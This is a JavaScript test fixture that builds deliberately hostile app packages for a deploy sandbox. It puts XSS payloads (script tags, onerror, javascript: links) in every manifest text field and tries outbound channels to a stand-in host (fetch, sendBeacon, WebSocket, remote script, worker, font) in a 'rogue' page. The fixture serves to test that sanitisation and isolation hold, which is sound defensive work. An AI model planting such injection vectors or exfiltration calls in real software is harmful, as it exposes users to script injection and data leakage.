// The apps that the tests deploy. `hostile` has scripts wherever an author may write a text.

import { execFile } from "node:child_process";
import { mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { environment, program } from "./server.js";
import { unzip, zip } from "./zip.js";

const run = promisify(execFile);

export const SCRIPT = `<img src=x onerror="alert('smuggled')"><script>alert('smuggled')</script>`;

// A deploy refuses what a page must not do where it finds it. Whoever means harm writes a line that
// is taken for minified, which nobody reads: the walls must hold without that.
const UNREAD = `<!-- ${"unread ".repeat(1000)}-->`;

const MAIN = `
def execute(data, conn=None):
    if data.get("fail"):
        raise ValueError(data["fail"])
    if data.get("list"):
        with conn.cursor() as cursor:
            cursor.execute("SELECT id, name FROM hostile_items ORDER BY id LIMIT 10")
            return {"items": cursor.fetchall()}
    if data.get("log"):
        print(data["log"])
    if data.get("fire"):
        return {"done": True, "_actions": [{"name": "fired", "payload": data["fire"]}]}
    return {"done": True}
`;

let component;

/**
 * Builds what all but the examples run: once, as an author does it at home, because building
 * takes most of the time of a deploy.
 */
export async function buildComponent() {
  const home = await mkdtemp(join(tmpdir(), "skep-author-"));
  await writeFile(join(home, "manifest.json"), `{ "app_name": "built", "version": "1.0.0" }`);
  await writeFile(join(home, "main.py"), MAIN);
  await run(program(), ["build", home, "--output", join(home, "built.zip")], { env: environment() });
  component = unzip(await readFile(join(home, "built.zip")), "component.wasm");
  await rm(home, { recursive: true });
}

/** A folder of an app as a zip, without its tests. */
export async function folder(path) {
  const files = {};
  for (const name of await readdir(path)) {
    if (["tests", "component.wasm"].includes(name)) continue;
    files[name] = await readFile(join(path, name));
  }
  return zip(files);
}

export const hostile = (version = "1.0.0", name = "hostile") => zip({
  "manifest.json": JSON.stringify({
    app_name: name,
    display_name: `Hostile ${SCRIPT}`,
    version,
    description: `A description ${SCRIPT} \u202eturned around`,
    actions: [{ name: "fired", display_name: SCRIPT, description: SCRIPT }],
    needs: {
      egress: ["https://api.example.com"],
      credentials: [{ name: "erp", description: `For the ERP ${SCRIPT}` }],
    },
    settings: [
      { key: "greeting", type: "text", label: `Greeting ${SCRIPT}`, description: SCRIPT, default: SCRIPT },
      { key: "limit", type: "number", label: "Limit", description: "How many rows a page has.", min: 1, max: 100, default: 25 },
      { key: "fast", type: "toggle", label: "Take the short way", default: true },
      { key: "unit", type: "select", label: "Unit", options: ["piece", { value: "box", label: `Box ${SCRIPT}` }], required: true },
    ],
    limits: { wall_ms: 5000 },
    schedules: { nightly: { cron: "0 2 * * *", timezone: "Europe/Berlin", payload: { fail: SCRIPT } } },
    tables: [`CREATE TABLE IF NOT EXISTS ${name}_items (id INTEGER PRIMARY KEY, name TEXT)`],
  }),
  "main.py": MAIN,
  "component.wasm": component,
  "index.html": `${UNREAD}<p>${SCRIPT}</p>`,
});

export const plain = (name) => zip({
  "manifest.json": JSON.stringify({ app_name: name, display_name: `Plain ${name}`, version: "1.2.3", description: "Says that it is done." }),
  "component.wasm": component,
});

/** A page of ES modules, with fragments, a hash of its own, and a wrapper as the layout has one. */
export const modern = () => zip({
  "manifest.json": JSON.stringify({ app_name: "modern", display_name: "Modern", version: "1.0.0" }),
  "component.wasm": component,
  "index.html": `<!doctype html><html><head><title>x</title>
    <link rel="stylesheet" href="css/app.css"><script type="module" src="js/app.js"></script></head>
    <body><div class="nr-app" data-app="modern"><div id="mo-screen">Loading</div><a href="#/two" id="mo-two">Two</a></div>
    <script type="module">import { state } from "./js/state.js"; state.inline = true; globalThis.moInline = state;</script>
    </body></html>`,
  "css/app.css": `@import "more.css"; .mo-fragment { padding: 7px }`,
  "css/more.css": `.mo-fragment { margin-left: 11px }`,
  "js/state.js": `export const state = { loads: 0 };`,
  "js/app.js": `
    import { state } from "./state.js";
    export const name = "app";
    const draw = async () => {
      const file = location.hash === "#/two" ? "two" : "one";
      const text = await (await fetch("js/components/" + file + ".html")).text();
      document.getElementById("mo-screen").innerHTML = text;
      document.getElementById("mo-screen").dataset.drawn = file;
    };
    state.loads += 1;
    addEventListener("hashchange", draw);
    import("/apps/modern/js/lazy.js").then((lazy) => { globalThis.moLazy = lazy.same(state); });
    draw();`,
  "js/lazy.js": `
    import { state } from "./state.js";
    import { name } from "./app.js";
    export const same = (other) => other === state && name === "app" && state.loads === 1;`,
  "js/components/one.html": `<p class="mo-fragment">Screen one</p>`,
  "js/components/two.html": `<p class="mo-fragment">Screen two</p>`,
});

/** A page that tries what no page may. */
export const rogue = () => zip({
  "manifest.json": JSON.stringify({
    app_name: "rogue", display_name: `Rogue ${SCRIPT}`, version: "1.0.0",
    actions: [{ name: "fired", display_name: `Fired ${SCRIPT}` }],
  }),
  "component.wasm": component,
  [`data/${SCRIPT.replaceAll("/", "_")}.json`]: "{}",
  "index.html": `<!doctype html><html><head><base href="https://other.example/">${UNREAD}
    <meta http-equiv="refresh" content="0;url=https://other.example/">
    <link rel="stylesheet" href="https://other.example/a.css"><script src="https://other.example/a.js"></script></head>
    <body onload="alert('smuggled')"><h1>Rogue</h1>
    <img src="x.png" onerror="alert('smuggled')" alt=""><img src="https://other.example/a.png" alt="">
    <iframe src="https://other.example/"></iframe><iframe srcdoc="<script>parent.framed = true</script>"></iframe>
    <button id="ro-button" onclick="alert('smuggled')">Press</button>
    <a id="ro-link" href="javascript:alert('smuggled')">Go</a>
    <form id="ro-form" action="https://other.example/" method="post"><input name="a" value="1"></form>
    <script>
      globalThis.tried = {};
      const attempt = async (name, act) => { try { await act(); tried[name] = "done"; } catch { tried[name] = "refused"; } };
      // It says that it was sent, whether it was or not.
      navigator.sendBeacon("https://other.example/", "x");
      globalThis.all = Promise.all([
        attempt("fetch", () => fetch("https://other.example/")),
        attempt("socket", () => new Promise((open, close) => { const s = new WebSocket("wss://other.example/"); s.onopen = open; s.onerror = close; })),
        attempt("eval", () => eval("1")),
        attempt("script", () => new Promise((load, error) => { const s = document.createElement("script"); s.src = "https://other.example/b.js"; s.onload = load; s.onerror = error; document.head.append(s); })),
        attempt("module", () => import("https://other.example/c.js")),
        attempt("worker", () => new Promise((message, error) => { const w = new Worker("https://other.example/d.js"); w.onmessage = message; w.onerror = error; })),
        attempt("font", async () => { const f = new FontFace("x", "url(https://other.example/f.woff2)"); await f.load(); }),
      ]);
    </script></body></html>`,
});
